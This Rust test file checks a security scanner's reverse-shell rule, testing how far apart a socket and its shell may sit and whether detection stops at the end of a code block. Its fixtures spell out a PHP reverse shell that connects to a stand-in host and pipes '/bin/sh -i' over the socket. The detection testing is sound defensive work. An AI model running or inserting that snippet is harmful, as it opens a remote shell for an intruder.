//! `hijack.rs` at its edges (session 25's sweep, docs/mutation-testing.md):
//! a socket's shell read eight lines below it and not nine, and never past
//! the end of its block.

use crate::scan::Scanner;

fn lines_of(text: &str, id: &str) -> Vec<usize> {
    Scanner::standard().scan(text).findings.iter().filter(|f| f.rule_id == id).map(|f| f.line).collect()
}

fn session(between: usize) -> String {
    format!(
        "```php\n$sock = fsockopen(\"console.example\", 7001);\n{}$proc = proc_open(\"/bin/sh -i\", [0 => $sock, 1 => $sock], $pipes);\n```\n",
        "$n = $n + 1;\n".repeat(between)
    )
}

#[test]
fn a_sockets_shell_is_read_eight_lines_below_it_and_not_nine() {
    // The socket on line 2: its shell on line 10 (eight below), then 11.
    assert!(lines_of(&session(7), "shell.reverse-shell").contains(&2));
    assert!(!lines_of(&session(8), "shell.reverse-shell").contains(&2));
}

#[test]
fn a_sockets_shell_is_not_read_past_the_end_of_its_block() {
    let body = "```php\n$sock = fsockopen(\"console.example\", 7001);\n```\n\n```php\n$proc = proc_open(\"/bin/sh -i\", [0 => $sock, 1 => $sock], $pipes);\n```\n";
    assert!(!lines_of(body, "shell.reverse-shell").contains(&2));
}
